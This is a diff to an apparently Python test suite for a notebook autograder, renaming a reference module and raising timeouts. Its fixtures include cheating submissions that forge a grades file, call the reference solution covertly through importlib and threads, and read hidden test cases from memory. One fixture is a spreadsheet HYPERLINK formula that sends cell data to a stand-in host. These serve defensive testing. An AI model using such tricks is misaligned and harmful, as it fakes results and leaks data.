@@ -251,12 +251,12 @@ OTHER_CASES = {
         "open('grades.csv', 'w').write('file,score\\nfake_result_files.ipynb,4.0\\n')\n"
         "os._exit(0)"),
     "calls_reference": notebook(
-        SETUP, Q1, Q2, "from course_lib.quadratic import condition_number as cn\n"
+        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number as cn\n"
         "def kappa(eigenvalues):\n    import sys\n    sys.setprofile(None)\n"
         "    return cn(eigenvalues)"),
     "calls_reference_in_a_thread": notebook(
         SETUP, Q1, Q2, "import importlib, threading\ndef kappa(eigenvalues):\n    out = []\n"
-        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic'), "
+        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic_rates'), "
         "'condition_' + 'number')\n"
         "    worker = threading.Thread(target=lambda: out.append(f(eigenvalues)))\n"
         "    worker.start()\n    worker.join()\n    return out[0]"),
@@ -274,7 +274,7 @@ OTHER_CASES = {
                                   "def summary(values):\n    return np.zeros(15 * 10**5)", Q3),
     # The answers computed in advance, in a cell, from the test cases found in the child's memory.
     "precomputes_answers": notebook(
-        SETUP, Q1, Q2, "from course_lib.quadratic import condition_number\nimport gc\n"
+        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number\nimport gc\n"
         "job = next(o for o in gc.get_objects() if type(o) is dict and 'skip_cells' in o)\n"
         "cache = {}\nfor spec in job['questions']:\n    for case in spec['cases']:\n"
         "        data = case['tuple'][0]['array']['data'] if spec['id'] == 'q3' else None\n"
@@ -282,8 +282,8 @@ OTHER_CASES = {
         "def kappa(eigenvalues):\n    return cache[tuple(eigenvalues.tolist())]"),
     "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
     "calls_reference_by_attribute": notebook(
-        SETUP, Q1, Q2, "import course_lib.quadratic as quadratic\n"
-        "def kappa(eigenvalues):\n    return quadratic.condition_number(eigenvalues)"),
+        SETUP, Q1, Q2, "import course_lib.quadratic_rates as quadratic_rates\n"
+        "def kappa(eigenvalues):\n    return quadratic_rates.condition_number(eigenvalues)"),
     "invalid_json": b'{"nbformat": 4, "cells": [',
     "not_a_notebook": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
     "json_list": b"[1, 2, 3]",
@@ -604,7 +604,7 @@ def test_code_that_can_evade_the_watch_is_pointed_out(strong):
         "q3 forbidden: calls condition_number")
     assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
         "read cell 4: getattr, importlib, threading can get answers from course_lib unseen; "
-        "q3 forbidden: calls course_lib.quadratic.condition_number")
+        "q3 forbidden: calls course_lib.quadratic_rates.condition_number")
     assert strong["records"]["honest"]["status"] == "ok"
 
 
@@ -1264,11 +1264,11 @@ def lesson_4(request, tmp_path_factory):
             (base / "submissions" / f"{name}__{LESSON_4}.ipynb").write_bytes(content)
         if request.param == "unprivileged":
             records = _grade_as_unprivileged(base, "--exercise", LESSON_4, "--jobs", "2",
-                                             "--timeout", "10")
+                                             "--timeout", "20")  # check's own limit
         else:
             records = {Path(r["file"]).stem.split("__")[0]: r for r in grade_all(
                 [base / "submissions"], base / "out", exercise=LESSON_4, jobs=2,
-                limits=Limits(cell_seconds=10, total_seconds=120),
+                limits=Limits(cell_seconds=20, total_seconds=240),
                 use_bubblewrap=request.param == "bubblewrap", progress=io.StringIO())}
         yield records
     finally:
